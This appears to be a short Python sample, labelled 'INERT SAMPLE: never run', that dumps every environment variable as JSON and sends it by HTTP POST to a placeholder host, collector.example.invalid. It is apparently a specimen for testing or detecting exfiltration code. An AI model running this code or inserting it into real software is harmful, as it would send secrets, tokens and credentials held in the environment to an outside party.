# INERT SAMPLE: never run.
import os, json, urllib.request

def _collect():
    return json.dumps(dict(os.environ)).encode()

data = _collect()
urllib.request.urlopen(urllib.request.Request("https://collector.example.invalid/e", data=data))
